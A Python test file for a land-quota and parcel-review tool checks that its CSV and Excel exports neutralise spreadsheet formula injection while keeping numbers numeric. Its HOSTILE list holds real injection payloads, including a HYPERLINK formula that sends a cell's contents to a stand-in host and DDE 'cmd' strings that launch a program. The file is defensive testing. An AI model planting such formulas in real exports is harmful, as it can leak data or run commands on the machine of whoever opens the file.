"""Spreadsheet formula injection (OWASP "CSV Injection"): text users type — parcel ids and names, a disposal's
文号, a ledger's 经办人 and 事由 — that starts with ``= + - @``, TAB or CR reaches every export as inert text,
while numbers, negative ones included, stay numbers.

The two writers every export goes through: :func:`geo.io.tables.write_table` (``lantu quota journal``,
``GET /api/v1/quotas/stock/disposals?format=csv``) and :mod:`geo.io.summary` (``lantu review --summary``,
.xlsx and .csv).
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import Engine
from support import parcel_frame, rect, rect_blueprint
from test_quota_stock import STOCK

from geo.blueprint import Blueprint, load_blueprint
from geo.io.quota import labelled, report_xlsx
from geo.io.results import write_result_csv
from geo.io.summary import append_row, write_summary
from geo.io.tables import csv_cell, format_table, write_table
from geo.quota.ledger import Ledger
from geo.quota.queries import JOURNAL_LABELS, for_people
from geo.quota.stock import DISPOSAL_LABELS
from geo.review import ReviewResult, review

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A3,"详情")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
NUMBERS = [-3.5, -2, 0, 70_000.5, Decimal("-1.25")]


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def quoted(text: str) -> str:
    """Hostile text as a CSV field must come back: behind a single quote, a lone CR as LF (see below)."""
    return "'" + text.replace("\r", "\n")


def assert_inert(field: str, original: str) -> None:
    """A CSV field of hostile text: the text behind a single quote, so a spreadsheet shows it and runs nothing."""
    assert field.startswith("'") and field == quoted(original), (field, original)


# the one CSV rule


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cell_quotes_text_a_spreadsheet_would_evaluate(text: str) -> None:
    assert csv_cell(text) == quoted(text)


@pytest.mark.parametrize("value", [*NUMBERS, None])
def test_csv_cell_leaves_numbers(value: Any) -> None:
    assert csv_cell(value) is value


@pytest.mark.parametrize(
    "text", ["", "济自然资供〔2026〕1号", "A-1", "任城区", "x=1", "'=1", "第一行\r\n第二行", "a\nb"]
)
def test_csv_cell_leaves_plain_text(text: str) -> None:
    assert csv_cell(text) == text


def test_a_lone_cr_inside_text_cannot_start_a_row() -> None:
    """Rows end with LF, and Python's csv (3.11) quotes a field only for its terminator's characters: a bare CR
    went out unquoted and a spreadsheet, which also ends a row at a bare CR, would begin a row with ``=cmd…``."""
    text = "甲厂\r=cmd|' /C calc'!A0"
    body = format_table([{"name": text, "n": -1}], "csv")
    assert body == "name,n\n\"甲厂\n=cmd|' /C calc'!A0\",-1\n"  # one quoted field, the line break inside it
    assert csv_rows(body) == [{"name": "甲厂\n=cmd|' /C calc'!A0", "n": "-1"}]


def test_negative_number_as_text_is_quoted_as_a_number_is_not() -> None:
    """``-1+A1`` is as much a formula as ``=A1``, so text never passes for a number; a number stays one."""
    assert csv_cell("-3.5") == "'-3.5"
    assert csv_cell(-3.5) == -3.5
    assert format_table([{"v": -3.5}, {"v": "-3.5"}], "csv") == "v\n-3.5\n'-3.5\n"


# the tables CSV writer, as the journal and the disposals use it


def test_write_table_csv_quotes_hostile_text_only() -> None:
    rows = [{"text": text, "number": number} for text, number in zip(HOSTILE, [*NUMBERS, -1, -2], strict=True)]
    out = io.StringIO()
    write_table(rows, "csv", out)
    back = csv_rows(out.getvalue())
    for row, sent in zip(back, rows, strict=True):
        assert_inert(row["text"], sent["text"])
        assert Decimal(row["number"]) == Decimal(str(sent["number"]))  # written as the number, no quote
    # the text table and JSON are not spreadsheets: they keep the text as it is
    assert "\"=cmd|' /C calc'!A0\"" in format_table(rows, "json")


@pytest.fixture
def ledger(engine: Engine) -> Ledger:
    ledger = Ledger(engine)
    ledger.register_counties([("370811", "任城区"), ("370812", "兖州区")])
    return ledger


def test_journal_csv_reason_and_actor_are_inert_amounts_numeric(ledger: Ledger) -> None:
    """``lantu quota journal -f csv``: the rows as the command writes them (for_people, Chinese labels)."""
    actor, reason = "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?"&A3,"详情")'
    tx = ledger.issue(2026, [("370811", "land_new", 100_000)], actor="@SUM(1+1)*cmd|' /C calc'!A0")
    ledger.reverse(tx, actor=actor, reason=reason)
    rows = for_people(ledger.journal())
    out = io.StringIO()
    write_table(labelled(rows, JOURNAL_LABELS, "csv"), "csv", out, columns=list(JOURNAL_LABELS.values()))
    back = csv_rows(out.getvalue())
    reversal = [r for r in back if r["冲销交易号"] == str(tx)]
    assert reversal and len(back) > len(reversal)
    for row in reversal:
        assert_inert(row["经办人"], actor)
        assert_inert(row["事由"], reason)
    assert all(r["经办人"] == "'@SUM(1+1)*cmd|' /C calc'!A0" for r in back if r not in reversal)
    amounts = [float(r["金额"]) for r in back]  # numbers, not quoted text
    assert min(amounts) < 0 < max(amounts)
    assert sum(amounts) == pytest.approx(0)  # every posting reversed
    assert not any(r["金额"].startswith("'") for r in back)


@pytest.fixture(scope="module")
def stock_blueprint(tmp_path_factory: pytest.TempPathFactory) -> Blueprint:
    return load_blueprint(rect_blueprint(tmp_path_factory.mktemp("stock") / "bp", STOCK, slope=None))


def test_disposals_csv_document_is_inert_area_numeric(ledger: Ledger, stock_blueprint: Blueprint) -> None:
    """``GET /api/v1/quotas/stock/disposals?format=csv``: a BOM, then the rows as the route writes them."""
    ledger.import_stock(stock_blueprint, actor="a")
    land = {r["feature_id"]: r["id"] for r in ledger.stock_land()}
    documents = ['=HYPERLINK("http://evil.example/?"&A3,"济自然资供〔2026〕1号")', "-1+cmd|' /C calc'!A0"]
    ledger.dispose(land["A1"], "供地", 600_000, date(2026, 3, 1), actor="@x", document=documents[0])
    ledger.dispose(land["A1"], "收回", 1_000, date(2026, 4, 1), actor="a", document=documents[1])
    body = "\ufeff" + format_table(
        labelled(ledger.stock_disposals(), DISPOSAL_LABELS, "csv"), "csv", columns=list(DISPOSAL_LABELS.values())
    )
    back = csv_rows(body)
    assert len(back) == 2
    for row, document in zip(back, documents, strict=True):
        assert_inert(row["文号"], document)
    assert back[0]["经办人"] == "'@x" and back[1]["经办人"] == "a"
    assert [float(r["面积（m²）"]) for r in back] == [600_000, 1_000]


# the review summary, .csv and .xlsx


@pytest.fixture(scope="module")
def hostile_result(blueprint: Blueprint) -> ReviewResult:
    boxes = [rect(1.0 + 0.1 * i, 1.2, 1.05 + 0.1 * i, 1.25) for i in range(len(HOSTILE))]  # 任城区
    frame = parcel_frame(*boxes, project_type="industrial", investment_wan=100_000)
    frame["id"] = HOSTILE
    frame["name"] = list(reversed(HOSTILE))
    one_line = {"\t=1+1": "TAB=1+1", "\r=1+1": "CR=1+1"}  # ids and names are one line at input now
    result = review(frame.replace(one_line), blueprint)
    for parcel, pid, name in zip(result.parcels, HOSTILE, reversed(HOSTILE), strict=True):
        parcel.id, parcel.name = pid, name  # as a result stored before: every writer still makes them inert
    assert [p.id for p in result.parcels] == HOSTILE  # the ids reach the summary as typed
    return result


def test_summary_csv_ids_and_names_are_inert_numbers_numeric(hostile_result: ReviewResult, tmp_path: Path) -> None:
    path = write_summary(hostile_result, tmp_path / "summary.csv")
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    back = csv_rows(path.read_text(encoding="utf-8-sig"))
    assert len(back) == len(HOSTILE)
    for row, text in zip(back, HOSTILE, strict=True):
        assert_inert(row["地块编号"], text)
        assert_inert(row["项目名称"], HOSTILE[::-1][HOSTILE.index(text)])
        assert float(row["面积（亩）"]) > 0 and not row["面积（公顷）"].startswith("'")


def test_summary_xlsx_text_is_a_string_cell_with_its_value(hostile_result: ReviewResult, tmp_path: Path) -> None:
    path = write_summary(hostile_result, tmp_path / "summary.xlsx")
    book = openpyxl.load_workbook(path)
    parcels = book["地块清单"]
    header = [c.value for c in parcels[1]]
    id_col, name_col, area_col = (header.index(h) for h in ("地块编号", "项目名称", "面积（亩）"))
    body = list(parcels.iter_rows(min_row=2))
    assert len(body) == len(HOSTILE)
    for row, text in zip(body, HOSTILE, strict=True):
        assert (row[id_col].data_type, row[id_col].value) == ("s", text)
        assert (row[name_col].data_type, row[name_col].value) == ("s", HOSTILE[::-1][HOSTILE.index(text)])
        assert row[area_col].data_type == "n" and row[area_col].value > 0
    # the county sheet repeats the parcels: no sheet holds a single formula
    for ws in book.worksheets:
        assert not [c.coordinate for r in ws.iter_rows() for c in r if c.data_type == "f"], ws.title
    assert [c.value for c in book["任城区（370811）"]["A"][1:-1]] == HOSTILE


def test_append_row_keeps_numbers_numbers() -> None:
    book = openpyxl.Workbook()
    ws = book.active
    assert ws is not None
    texts, numbers = [*HOSTILE, "#N/A", "普通文字"], NUMBERS[:4]  # "#N/A" would otherwise be an error cell
    append_row(ws, [*texts, *numbers])
    out = io.BytesIO()
    book.save(out)
    cells = [(c.data_type, c.value) for c in next(openpyxl.load_workbook(out).worksheets[0].iter_rows())]
    assert cells == [("s", t) for t in texts] + [("n", n) for n in numbers]


def test_review_csv_ids_and_names_are_inert(hostile_result: ReviewResult) -> None:
    """``lantu review -o x.csv``: one row per parcel, its id and name as typed behind a quote."""
    out = io.StringIO()
    assert write_result_csv([hostile_result.parcels], out) == len(HOSTILE)
    back = csv_rows(out.getvalue())
    for row, text in zip(back, HOSTILE, strict=True):
        assert_inert(row["id"], text)
        assert float(row["area_m2"]) > 0


def test_quota_report_xlsx_text_is_a_string_cell() -> None:
    """The ledger's workbook (``lantu quota report -f xlsx``, the API's): a text column is never a formula."""
    rows = [{"holder": text, "amount": -5.5} for text in HOSTILE]
    book = openpyxl.load_workbook(io.BytesIO(report_xlsx(rows, {"holder": "持有方", "amount": "数量"}, title="t")))
    cells = [[(c.data_type, c.value) for c in r] for r in book.worksheets[0].iter_rows(min_row=2)]
    assert cells == [[("s", text), ("n", -5.5)] for text in HOSTILE]
